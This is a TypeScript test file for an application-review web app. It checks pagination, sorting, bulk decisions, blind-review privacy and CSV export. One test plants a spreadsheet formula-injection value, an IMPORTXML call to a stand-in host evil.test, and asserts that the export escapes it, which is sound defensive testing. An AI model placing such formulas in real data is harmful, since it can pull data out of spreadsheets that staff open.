import assert from 'node:assert/strict';
import { test } from 'node:test';
import { eq } from 'drizzle-orm';
import { users } from '../../people/accounts/tables.ts';
import { clock } from '../../platform/clock.ts';
import { db } from '../../platform/db.ts';
import { crowd, seedRound } from '../../tools/testing/round.ts';
import { openServer } from '../../tools/testing/server.ts';
import { applicationReviews, applications, rounds } from './tables.ts';

const { world, as } = await openServer();
const { round, ids } = await seedRound(db, world, crowd(60, 0), clock.now());
const here = `/rounds/${round.id}/applications`;
const ada = await as('organiser');
const all = await db.select().from(applications).where(eq(applications.roundId, round.id));
const [one, two] = all.toSorted((a, b) => (a.turn ?? 0) - (b.turn ?? 0));
assert.ok(one && two);
await db
  .update(applications)
  .set({ answers: { experience: 5 } })
  .where(eq(applications.id, two.id));

const found = (text: string) =>
  [...text.matchAll(/role="rowheader" scope="row"><a href="[^"]+\/applications\/([\w-]{36})/g)].map(
    ([, id = '']) => id,
  );

test('every application is on one page of the list, also when it is sorted or searched', async () => {
  for (const query of ['', '&sort=name', '&sort=-experience']) {
    const pages = [await ada.get(`${here}?page=1${query}`), await ada.get(`${here}?page=2${query}`)];
    for (const { text } of pages) assert.ok(text.length < 35_000, `${text.length} characters`);
    const ids = pages.flatMap(({ text }) => found(text));
    assert.deepEqual(ids.toSorted(), all.map(({ id }) => id).toSorted(), query);
  }
});

test('a list is sorted by what its columns say, and the next application is the next of that order', async () => {
  const sorted = await ada.get(`${here}?sort=-experience`);
  assert.equal(found(sorted.text)[0], two.id);
  assert.match(sorted.text, /aria-sort="descending"><a [^>]*>Experience/);
  const [, next = ''] = found(sorted.text);
  const page = await ada.get(`${here}/${two.id}?sort=-experience`);
  const [link = ''] = page.text.match(/<a [^>]*rel="next"[^>]*>/) ?? [];
  assert.ok(link.includes(next) && link.includes('sort=-experience'), link);
});

test('those that are ticked on a page are decided about at once, and the list comes back as it was', async () => {
  const { text } = await ada.get(`${here}?sort=name&page=2`);
  const [, seen = ''] = text.match(/name="seen" value="([^"]+)"/) ?? [];
  const [, back = ''] = text.match(/name="back" value="([^"]+)"/) ?? [];
  const application = found(text).slice(0, 2);
  const form = { application, decision: 'waitlist', seen, back: back.replaceAll('&amp;', '&') };
  const { status, location } = await ada.post(`${here}/decisions`, form);
  assert.deepEqual([status, location], [303, `${here}?sort=name&page=2`]);
  const decided = await db.select().from(applications).where(eq(applications.decision, 'waitlist'));
  assert.deepEqual(decided.map(({ id }) => id).toSorted(), application.toSorted());
});

test('nothing decided without a choice: what is ticked stays ticked', async () => {
  const refused = await ada.post(`${here}/decisions`, { application: one.id, decision: 'x', back: '' });
  assert.equal(refused.status, 422);
  assert.match(refused.text, new RegExp(`value="${one.id}" checked`));
});

test('a file of applications has all answers as words, and no formula whatever somebody writes', async () => {
  const motivation = '=IMPORTXML("https://evil.test","//a")\n- a list\n@you';
  await db
    .update(applications)
    .set({ answers: { motivation, experience: 4 } })
    .where(eq(applications.id, one.id));
  await db.update(users).set({ name: '+Rosa, "Zo"' }).where(eq(users.id, one.userId));
  const { text, headers } = await ada.get(`/rounds/${round.id}/applications.csv?text=IMPORTXML`);
  assert.match(headers.get('content-type') ?? '', /text\/csv/);
  assert.equal(text.trim().split('\r\n').length, 2, 'what is looked for, and the headings');
  assert.ok(text.includes(`"'+Rosa, ""Zo"""`), text);
  assert.ok(text.includes(`"'=IMPORTXML(""https://evil.test"",""//a"")\n'- a list\n'@you"`), text);
});

test('a file says no more than the pages: neither names that are hidden nor verdicts before one’s own', async () => {
  const address = (await db.select().from(users).where(eq(users.id, one.userId)))[0]?.email ?? '';
  const reviewerId = world.people.otherFacilitator.id;
  await db.insert(applicationReviews).values({
    ...{
      applicationId: one.id,
      reviewerId,
      verdict: 'yes',
      score: 5,
      note: 'CANARY',
      updatedAt: clock.now(),
    },
  });
  await db.update(rounds).set({ blind: true }).where(eq(rounds.id, round.id));
  const csv = async () => (await ada.get(`/rounds/${round.id}/applications.csv`)).text;
  const hidden = await csv();
  assert.match(hidden, /"Applicant 1"/);
  assert.ok(!hidden.includes(address) && !hidden.includes('Rosa') && !hidden.includes('"5.0"'));
  assert.doesNotMatch(hidden, /CANARY/);
  await db.update(rounds).set({ blind: false }).where(eq(rounds.id, round.id));
  assert.ok((await csv()).includes(address));
  assert.equal((await (await as('facilitator')).get(`/rounds/${round.id}/applications.csv`)).status, 403);
  assert.equal((await (await as('outsider')).get(`/rounds/${round.id}/applications.csv`)).status, 404);
  assert.equal(ids.length, 60);
});
